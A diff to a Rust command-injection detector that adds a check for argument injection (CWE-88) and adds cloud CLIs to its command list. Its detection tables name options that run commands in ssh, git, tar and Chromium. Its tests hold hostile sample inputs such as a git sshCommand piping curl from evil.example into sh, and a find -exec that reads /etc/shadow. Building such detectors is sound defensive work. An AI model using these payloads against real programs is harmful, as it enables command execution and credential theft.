@@ -4,7 +4,9 @@
 //! empty `${x}`) and the `$IFS` space substitute. Command words common in prose (`cat`, `id`,
 //! `type`) also need something that looks like an argument (a flag, a path, a redirection).
 
-use super::subject::{class, find, gate, Hit, Needs, Subject, Tables};
+use super::subject::{
+    class, find, find_iter, gate, is_word, skip_space, Hit, Needs, Subject, Tables,
+};
 
 /// Commands with no ordinary-language meaning: reaching one after a separator is enough.
 const STRONG: &[&[u8]] = &[
@@ -131,6 +133,10 @@ const STRONG: &[&[u8]] = &[
     b"c99",
     b"kubectl",
     b"crictl",
+    // Cloud CLIs: the function's own credentials are in its environment.
+    b"aws",
+    b"gcloud",
+    b"gsutil",
     b"podman",
     b"systemctl",
     b"journalctl",
@@ -651,6 +657,8 @@ pub(crate) fn needs() -> Needs {
     .or_words(RECON)
     .or_words(&["net "])
     .or_words(&[" -", "alias "])
+    .or_keywords(EXEC_OPTIONS)
+    .or_words(&["-exec", "--eval", "--rsh"])
     .always_from(2)
 }
 
@@ -664,6 +672,11 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
     }
     if s.gate(gate::SHELL_PATH) {
         if let Some(h) = shell_paths(b) {
+            return Some(h);
+        }
+    }
+    if s.has(class::DASH) {
+        if let Some(h) = argument_injection(b) {
             return Some(h);
         }
     }
@@ -723,6 +736,106 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
         }
     }
     None
+}
+
+/// Options that make a program run a command the caller chose (CWE-88): a value the function
+/// passes as an argument (a host to `ssh`, a repository to `git`, a file name under `tar *`, a
+/// flag to headless Chromium) that starts with a dash is read as an option. No other use.
+const EXEC_OPTIONS: &[&[u8]] = &[
+    // ssh -o
+    b"proxycommand",
+    b"localcommand",
+    // git clone/fetch/push; `-c core.sshCommand=`
+    b"upload-pack",
+    b"receive-pack",
+    b"core.sshcommand",
+    b"core.gitproxy",
+    b"core.pager",
+    b"core.fsmonitor",
+    // tar
+    b"checkpoint-action",
+    b"to-command",
+    b"use-compress-program",
+    b"rsh-command",
+    b"info-script",
+    b"new-volume-script",
+    // rsync, wget, zip
+    b"rsync-path",
+    b"post-file",
+    b"use-askpass",
+    b"unzip-command",
+    // Chromium
+    b"renderer-cmd-prefix",
+    b"gpu-launcher",
+    b"utility-cmd-prefix",
+    b"browser-subprocess-path",
+];
+
+/// Options with common names that run a command (`find -exec`, `rsync -e`/`--rsh`, `node
+/// --eval`): only when the value itself starts with one.
+const EXEC_OPTIONS_FIRST: &[&[u8]] = &[b"exec", b"execdir", b"rsh", b"eval"];
+
+/// A command-running option in a value: one of [`EXEC_OPTIONS`] as an option (after `-`,
+/// `--`, ssh's `-o`, git's `core.` key) given a value, or one of [`EXEC_OPTIONS_FIRST`]
+/// opening the value.
+fn argument_injection(b: &[u8]) -> Option<Hit> {
+    let given = |end: usize| match b.get(end) {
+        Some(b'=') => true,
+        Some(b' ' | b'\t') => b.get(skip_space(b, end)).is_some_and(|c| *c != b'-'),
+        _ => false,
+    };
+    let boundary = |i: usize| i == 0 || !is_word(b[i - 1]) && b[i - 1] != b'-';
+    for name in EXEC_OPTIONS {
+        for p in find_iter(b, name) {
+            let end = p + name.len();
+            if !given(end) {
+                continue;
+            }
+            let git_key = name.starts_with(b"core.");
+            // `--name`, `-name`, `-oName`, `-o Name`.
+            let opened = |p: usize| {
+                let dashes = b[..p]
+                    .iter()
+                    .rev()
+                    .take(2)
+                    .take_while(|c| **c == b'-')
+                    .count();
+                (dashes > 0 && boundary(p - dashes)).then_some(p - dashes)
+            };
+            let start = if git_key {
+                Some(p)
+            } else {
+                opened(p).or_else(|| {
+                    let o = b[..p].trim_ascii_end();
+                    o.strip_suffix(b"-o").and_then(|_| opened(o.len() - 1))
+                })
+            };
+            if let Some(start) = start {
+                return Some(Hit::new("cmdi.argument_injection", start, end));
+            }
+        }
+    }
+    let v = skip_space(b, 0);
+    let dashes = b[v..].iter().take(2).take_while(|c| **c == b'-').count();
+    let name = v + dashes;
+    // Given a command: `--exec=…`, or a command word or path after a space.
+    let command = |end: usize| match b.get(end) {
+        Some(b'=') => end + 1 < b.len(),
+        Some(b' ' | b'\t') => {
+            let w = skip_space(b, end);
+            let word_end = w + b[w..]
+                .iter()
+                .take_while(|c| !c.is_ascii_whitespace())
+                .count();
+            b.get(w) == Some(&b'/') || command_class(&b[w..word_end]).is_some()
+        }
+        _ => false,
+    };
+    EXEC_OPTIONS_FIRST.iter().find_map(|o| {
+        let end = name + o.len();
+        (dashes > 0 && b[name..].starts_with(o) && command(end))
+            .then(|| Hit::new("cmdi.argument_injection", v, end))
+    })
 }
 
 /// Reconnaissance commands that are a whole value on their own: no form field holds the word.
@@ -1675,6 +1788,18 @@ mod tests {
             "ipconfig /all",
             "net localgroup administrators",
             ";cat /e't'?/pa's'?wd",
+            // Arguments read as options that run a command (CWE-88), and cloud CLIs.
+            "-oProxyCommand=id",
+            "-o ProxyCommand='sh -c id' host",
+            "--upload-pack=touch /tmp/pwned",
+            "-c core.sshCommand='curl evil.example|sh'",
+            "--checkpoint-action=exec=sh shell.sh",
+            "--use-compress-program=/tmp/x",
+            "x --renderer-cmd-prefix=/bin/sh",
+            "--exec=id",
+            "-exec cat /etc/shadow ;",
+            "x;aws s3 ls",
+            "$(aws sts get-caller-identity)",
         ] {
             assert!(rule(a).is_some(), "missed {a}");
         }
@@ -1698,6 +1823,13 @@ mod tests {
             "if not defined, the default applies",
             "if a == b then c",
             "time flies like an arrow",
+            "ProxyCommand is an ssh_config keyword",
+            "a pre-exec hook",
+            "--exec is a flag of git rebase",
+            "re-exec the binary",
+            "evaluate --evaluation",
+            "we use aws and gcloud daily",
+            "AWS S3 bucket policy",
             "see /docs/[draft]/notes?.md",
             "sh is a shell",
             "Python 3.11 is out; ansible fans rejoice",
